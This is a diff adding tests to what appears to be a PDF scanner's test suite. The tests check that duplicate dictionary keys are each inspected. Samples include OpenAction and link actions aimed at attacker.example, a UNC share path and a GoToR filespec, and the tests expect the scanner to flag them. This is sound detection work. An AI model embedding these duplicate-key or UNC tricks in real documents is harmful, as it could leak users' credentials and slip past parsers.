@@ -391,3 +391,32 @@ describe('an opening action’s /Next list written by reference', () => {
     expect(codes(await inspect(destination, 'pdf'))).toEqual([]);
   });
 });
+
+describe('a key written twice in one dictionary', () => {
+  const UNC_URI = '(\\\\\\\\attacker.example\\\\s\\\\x)';
+
+  it('judges every value, as a reader that keeps the first would read it', async () => {
+    const firstUri = '/OpenAction << /S /URI /URI (http://attacker.example/t) /S /GoTo /D [3 0 R /Fit] >>';
+    expect(await findings(buildClassicPdf(pageObjects(firstUri)))).toMatchObject({
+      codes: ['PDF_ACTION'],
+      features: ['/OpenAction /S (written twice)'],
+    });
+    const twiceOpening = '/OpenAction << /S /URI /URI (http://attacker.example/t) >> /OpenAction [3 0 R /Fit]';
+    expect(await findings(buildClassicPdf(pageObjects(twiceOpening)))).toMatchObject({
+      codes: ['PDF_ACTION'],
+      features: ['/OpenAction /URI'],
+    });
+    const link = `<< /S /URI /URI ${UNC_URI} /URI (https://www.miit.gov.cn/) >>`;
+    expect(codes(await inspect(buildPdf(linkAnnotations(link)), 'pdf'))).toEqual(['PDF_ACTION']);
+    const spec = buildClassicPdf([
+      ...linkAnnotations('<< /S /GoToR /F 9 0 R /D [0 /Fit] >>'),
+      { num: 9, body: `<< /Type /Filespec /F ${UNC_URI} /F (annex.pdf) >>` },
+    ]);
+    expect(codes(await inspect(spec, 'pdf'))).toEqual(['PDF_ACTION']);
+  });
+
+  it('keeps a harmless key written twice VALID', async () => {
+    const pdf = buildClassicPdf(pageObjects('/PageMode /UseNone /PageMode /UseOutlines /OpenAction [3 0 R /Fit]'));
+    expect(codes(await inspect(pdf, 'pdf'))).toEqual([]);
+  });
+});
